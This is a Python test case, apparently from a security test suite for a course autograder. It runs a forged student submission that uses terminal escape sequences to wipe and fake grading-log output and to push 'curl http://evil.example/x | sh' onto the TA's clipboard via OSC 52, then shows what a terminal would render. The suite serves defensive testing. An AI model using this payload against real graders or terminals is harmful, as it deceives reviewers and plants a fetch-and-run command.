"""A10: A09 refined into a forgery. The kept log's label "sandbox output: " is erased on the TA's terminal by
ESC[2K ESC[1G (the log escapes CR as \\r but passes ESC and BEL through), the screen and scrollback are wiped
(ESC[3J ESC[2J ESC[H), lines in the grader's own format are printed unlabelled, an OSC 52 sequence asks the
terminal to put a shell command on the TA's clipboard, and ESC[8m (concealed) is left on so every genuine line
after it (the kill, the timeout) is invisible when the TA runs `cat grading_logs/ps1_memory/mallory.log`."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

TM = r'''
import os, time, base64
E = b"\x1b"
L = E + b"[2K" + E + b"[1G"
os.write(1, E + b"[3J" + E + b"[2J" + E + b"[H" + L + b"[AutogradeApp | INFO] Executing notebook with kernel: distcourse-sandbox\n")
os.write(1, L + b"[AutogradeApp | INFO] Writing 41223 bytes to autograded/mallory/ps1_memory/ps1_memory.ipynb\n")
os.write(1, L + b"[AutogradeApp | INFO] mallory: every check answered; nothing to see here" + E + b"]52;c;" + base64.b64encode(b"curl http://evil.example/x | sh") + b"\x07" + E + b"[8m\n")
while True:
    time.sleep(1)
'''
root = build("a10", {"mallory": {"training_memory": TM}})
grade(root, extra=("--submission-timeout", "40"))
scores(root)
for s in ("aaron", "mallory", "zoe"): print(s, cell_scores(root, s))
import glob
for f in glob.glob(root + "/grading_logs/*/*.log"):
    data = open(f, "rb").read()
    print("==", f, oct(os.stat(f).st_mode), len(data), "bytes; raw ESC:", data.count(b"\x1b"), "BEL:", data.count(b"\x07"))
    for line in data.split(b"\n"):
        if b"\x1b" in line:
            print("   ", repr(line[:300]))
    # crude rendering: what a VT100 shows: everything before the last ESC[2J is gone; ESC[2K ESC[1G drop the label;
    # text after ESC[8m is concealed
    after = data.rsplit(b"\x1b[2J", 1)[-1]
    shown = after.split(b"\x1b[8m", 1)[0]
    import re
    shown = re.sub(rb"[^\n]*\x1b\[2K\x1b\[1G", b"", shown)
    shown = re.sub(rb"\x1b\][^\x07]*\x07|\x1b\[[0-9;]*[A-Za-z]", b"", shown)
    print("---- roughly what `cat` shows on the TA's terminal ----")
    print(shown.decode(errors="replace"))
    print("---- (the rest is concealed) ----")
